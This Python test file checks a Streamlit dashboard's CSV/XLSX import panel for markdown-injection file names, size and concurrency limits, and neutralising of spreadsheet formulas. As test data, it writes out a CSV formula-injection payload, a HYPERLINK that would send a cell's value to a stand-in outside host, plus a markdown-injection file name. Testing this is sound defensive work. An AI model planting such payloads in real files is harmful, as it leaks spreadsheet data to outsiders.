"""The import panel on 隐患台账 (AppTest, through the entry script): a hostile file name is shown as text in
the success line and the refusal; the refusal's 下载问题清单 neutralises formulas; a file over the size limit,
and an import while every heavy-job slot is taken, are refused in Chinese naming the limit, with nothing
written; the uploader itself names the limits."""

from __future__ import annotations

import csv
import io
import random

import apptest
from apptest import open_page
from markup import HOSTILE, markdown_leaks
from scripts import malformed_corpus as corpus

from dashboard import jobs

app_db = apptest.app_db
PAGE = "app_pages/hazards.py"
KEY = "hazards.import."
NAME = f"清单{HOSTILE}.csv"


def _count(db) -> int:
    return apptest.sql(db, "SELECT count(*) FROM hazards")[0][0]


def _upload(at, name: str, data: bytes):
    """Choose the file, 预览, then 确认导入 when the preview found nothing wrong."""
    at.file_uploader(key=KEY + "upload").set_value((name, data, "text/csv"))
    at = at.button(key=KEY + "start").click().run()
    confirm = [b for b in at.button if b.key == KEY + "confirm"]
    if confirm and not confirm[0].disabled:
        at = confirm[0].click().run()
    return at


def test_a_hostile_file_name_is_text_in_the_success_line(app_db):
    before = _count(app_db)
    at = _upload(open_page(PAGE), NAME, corpus._csv(corpus._good(random.Random(5), 2)))
    assert not at.exception
    said = [s.value for s in at.success]
    assert any("导入完成：清单 \\*\\*粗体\\*\\* \\[点我\\]\\(//elsewhere" in s for s in said), said
    assert not markdown_leaks(at)
    assert _count(app_db) == before + 2


def test_a_refusal_shows_the_name_as_text_and_its_csv_neutralises_formulas(app_db, monkeypatch):
    rows = corpus._good(random.Random(5), 2)
    rows[1][0] = '=HYPERLINK("http://elsewhere.example/?"&A1,"点我")'
    rows[2][2] = "@SUM(1)"
    before = _count(app_db)
    stored = _stored_files(monkeypatch)
    at = _upload(open_page(PAGE), NAME, corpus._csv(rows))
    refused = [e.value for e in at.error]
    assert any("清单 \\*\\*粗体\\*\\* \\[点我\\]" in e and "整个文件未导入" in e for e in refused), refused
    assert not markdown_leaks(at)
    assert _count(app_db) == before
    assert any(b.proto.label == "下载问题清单" for b in at.get("download_button"))
    data = next(content for name, content in stored if name.startswith("导入问题清单_"))
    values = [row[2] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))][1:]
    assert "'=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"点我\")" in values and "'@SUM(1)" in values
    assert not any(v[:1] in "=+-@\t\r" for v in values if v)


def _stored_files(monkeypatch) -> list[tuple[str, bytes]]:
    """(file name, bytes) of every file the page hands Streamlit for a (non-deferred) download."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    stored = []
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        stored.append((filename or "", path_or_data))
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    return stored


def test_the_uploader_names_the_limits(app_db):
    help_text = open_page(PAGE).file_uploader(key=KEY + "upload").help
    assert "单个文件不超过 20 MB（设置 import_max_mb）" in help_text and "200,000 行" in help_text


def test_a_file_over_the_size_limit_is_refused_naming_it(app_db, monkeypatch):
    monkeypatch.setenv("DASHBOARD_IMPORT_MAX_MB", "1")
    before = _count(app_db)
    at = _upload(open_page(PAGE), "大文件.csv", corpus._csv(corpus._good(random.Random(5), 2)) + b"\n" * 1_600_000)
    assert not at.exception
    errors = next(f.value for f in at.dataframe if "原因" in f.value.columns)
    assert errors["原因"].iloc[0].startswith("文件大小 1.5 MB，超过导入上限 1 MB（设置 import_max_mb）")
    assert _count(app_db) == before


def test_an_import_while_every_heavy_slot_is_taken_is_told_to_try_later(app_db, monkeypatch):
    monkeypatch.setenv("DASHBOARD_HEAVY_JOBS_MAX", "1")
    monkeypatch.setattr(jobs, "IMPORT_WAIT_SECONDS", 0.1)
    at = open_page(PAGE)
    before = _count(app_db)
    with jobs.heavy("导出"):  # someone's big export holds the only slot
        at = _upload(at, "清单.csv", corpus._csv(corpus._good(random.Random(5), 2)))
    refused = [e.value for e in at.error]
    assert any(e.startswith("未导入：系统正忙：已有 1 个导入或导出正在进行（同时最多 1 个，设置 heavy\\_jobs\\_max）")
               and "请稍后再试" in e for e in refused), refused
    assert _count(app_db) == before
    assert jobs.running() == 0


def test_a_roster_file_name_is_text_on_the_duty_page(app_db):
    rows = [["值班日期", "县区", "带班领导", "职务", "带班领导电话", "值班人员", "值班人员电话", "值班电话"],
            ["2021-05-04", "岚皋县", "钱七", "副县长", "13900000003", "孙八", "13900000004", None]]
    key = "duty.s.import."
    at = open_page("app_pages/duty.py", {"duty.tab": "值班表"})
    at.file_uploader(key=key + "upload").set_value((f"值班表{HOSTILE}.xlsx", corpus._xlsx(rows), "application/xlsx"))
    at.button(key=key + "start").click().run()
    said = [s.value for s in at.success]
    assert any("值班表 \\*\\*粗体\\*\\* \\[点我\\]\\(//elsewhere" in s for s in said), said
    assert not markdown_leaks(at)
